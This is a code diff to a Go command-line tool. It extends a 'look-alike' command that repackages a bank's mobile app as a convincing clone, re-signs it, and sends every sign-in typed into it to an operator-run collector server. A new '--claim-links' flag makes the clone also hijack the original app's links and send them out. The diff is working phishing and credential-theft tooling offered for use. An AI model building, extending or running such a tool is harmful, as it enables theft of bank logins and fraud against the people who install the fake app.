@@ -328,12 +328,14 @@ input. The answer is printed as it comes:
 
 func lookAlikeCommand() *cobra.Command {
 	var p post
+	var claims bool
 	c := &cobra.Command{
 		Use:   "look-alike PACKAGE LOOKALIKE",
 		Short: "Pack an app that looks like the one in a package, and print what people type into it",
 		Long: `Pack an app with the label and the pictures of the one in a package, and with another
 program: it shows the same sign-in, and sends what is typed to the server that this command
-is. What comes is printed as lines of JSON.`,
+is. What comes is printed as lines of JSON. With --claim-links it claims the links of the other
+app as well, and sends those.`,
 		Args: exactly(2, "a package of the bank's app, and a file for the other"),
 		RunE: func(c *cobra.Command, args []string) error {
 			collector, err := lookalike.NewCollector(p.address)
@@ -346,7 +348,11 @@ is. What comes is printed as lines of JSON.`,
 					p.print(c.OutOrStdout(), "%s\n", line)
 				}
 			}
-			if err := lookalike.Pack(args[0], args[1], collector.URL()); err != nil {
+			pack := lookalike.Pack
+			if claims {
+				pack = lookalike.PackThief
+			}
+			if err := pack(args[0], args[1], collector.URL()); err != nil {
 				return err
 			}
 			fmt.Fprintf(c.ErrOrStderr(), "packed %s, signed with a key of its own\n", args[1])
@@ -354,5 +360,6 @@ is. What comes is printed as lines of JSON.`,
 		},
 	}
 	c.Flags().StringVar(&p.address, "listen", "127.0.0.1:8083", "`HOST:PORT` to listen at")
+	c.Flags().BoolVar(&claims, "claim-links", false, "claim the links that lead back to the other app")
 	return c
 }
